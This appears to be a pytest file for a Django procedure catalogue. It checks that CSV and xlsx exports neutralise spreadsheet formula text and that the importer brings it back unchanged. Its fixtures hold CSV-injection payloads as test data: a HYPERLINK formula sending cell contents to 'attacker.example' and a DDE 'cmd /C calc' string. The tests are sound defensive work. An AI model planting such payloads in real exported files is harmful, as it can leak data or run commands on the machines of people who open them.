"""Catalogue text that a spreadsheet would run as a formula (OWASP CSV Injection) leaves the exporter as
text — a ``'`` before it in CSV, a string cell in xlsx — and comes back unchanged through the importer."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from procedures.services import catalogue_export, catalogue_import
from procedures.text import FORMULA_TRIGGERS
from tests.procedures.factories import AgencyFactory, ProcedureFactory, ProcedureVersionFactory
from tests.procedures.test_export import _snapshot, _wipe

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'


@pytest.fixture
def catalogue() -> None:
    province = AgencyFactory(code="DEMO-P", province=True, name=HOSTILE)
    department = AgencyFactory(code="DEMO-D", parent=province, name="@SUM(1+1)*cmd|' /C calc'!A0")
    procedure = ProcedureFactory(code="1.014438", agency=department, name="+1+1", field="-2+3")
    ProcedureVersionFactory(
        procedure=procedure,
        effective_from=date(2025, 7, 1),
        legal_basis="- Luật Khoa học và Công nghệ 2013;\n- Nghị định 08/2014/NĐ-CP",
    )
    ProcedureVersionFactory(
        procedure__code="1.014439", procedure__agency=department, procedure__name="'Trích dẫn' giữ nguyên"
    )
    ProcedureVersionFactory(procedure__code="1.014440", procedure__agency=department, fees_vnd=15000)


def test_csv_export_prefixes_formula_text_and_imports_back_unchanged(tmp_path: Path, catalogue) -> None:
    ProcedureFactory._meta.model.objects.filter(versions__isnull=True).delete()
    before = _snapshot()
    catalogue_export(target=tmp_path / "out")
    cells = []
    for name in ("agencies.csv", "procedures.csv", "steps.csv"):
        with (tmp_path / "out" / name).open(encoding="utf-8", newline="") as fh:
            cells += [cell for row in csv.reader(fh) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    assert "'" + HOSTILE in cells and "'-2+3" in cells and "15000" in cells  # numbers are not prefixed

    _wipe()
    catalogue_import(
        procedures=tmp_path / "out" / "procedures.csv",
        steps=tmp_path / "out" / "steps.csv",
        agencies=tmp_path / "out" / "agencies.csv",
    )
    assert _snapshot() == before


def test_xlsx_export_writes_no_formula(tmp_path: Path, catalogue) -> None:
    ProcedureFactory._meta.model.objects.filter(versions__isnull=True).delete()
    before = _snapshot()
    catalogue_export(target=tmp_path / "catalogue.xlsx")
    workbook = load_workbook(tmp_path / "catalogue.xlsx")
    cells = [
        cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None
    ]
    assert not [c.value for c in cells if c.data_type == "f"]
    assert HOSTILE in [c.value for c in cells]
    _wipe()
    catalogue_import(procedures=tmp_path / "catalogue.xlsx")
    assert _snapshot() == before
